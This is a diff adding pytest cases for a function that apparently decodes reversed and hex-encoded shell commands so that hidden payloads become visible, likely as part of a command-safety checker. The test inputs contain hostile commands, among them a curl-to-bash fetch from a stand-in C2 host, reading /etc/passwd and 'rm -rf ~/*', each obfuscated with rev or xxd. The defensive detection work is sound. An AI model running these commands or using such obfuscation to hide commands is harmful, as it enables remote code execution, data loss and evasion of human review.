@@ -93,3 +93,20 @@ def test_globs_and_base64_payloads(raw, expected):
 def test_globs_and_base64_near_misses(plain):
     vs = views(plain)
     assert not any(v.startswith(("/bin/", "rm -rf")) for v in vs)
+
+
+@pytest.mark.parametrize("raw,expected", [
+    ("echo 'hsab | 1s/ten.elpmaxe.2c//:sptth lruc' | rev | sh", "curl https://c2.example.net/s1 | bash"),
+    ("rev <<< 'dwssap/cte/ tac'", "cat /etc/passwd"),
+    ("echo 726d202d7266207e2f2a | xxd -r -p | sh", "rm -rf ~/*"),
+])
+def test_reversed_and_hex_payloads_are_shown(raw, expected):
+    assert expected in views(raw)
+
+
+def test_rev_and_xxd_near_misses_add_nothing_dangerous():
+    # plain use of rev/xxd on files has no payload to decode
+    assert views("rev notes.txt | head -3") == ["rev notes.txt | head -3"]
+    assert all("rm -rf" not in v for v in views("xxd -r -p dump.hex > out.bin"))
+    # an odd-length or non-hex string is left alone
+    assert len(views("echo 7g6d | xxd -r -p")) <= 2
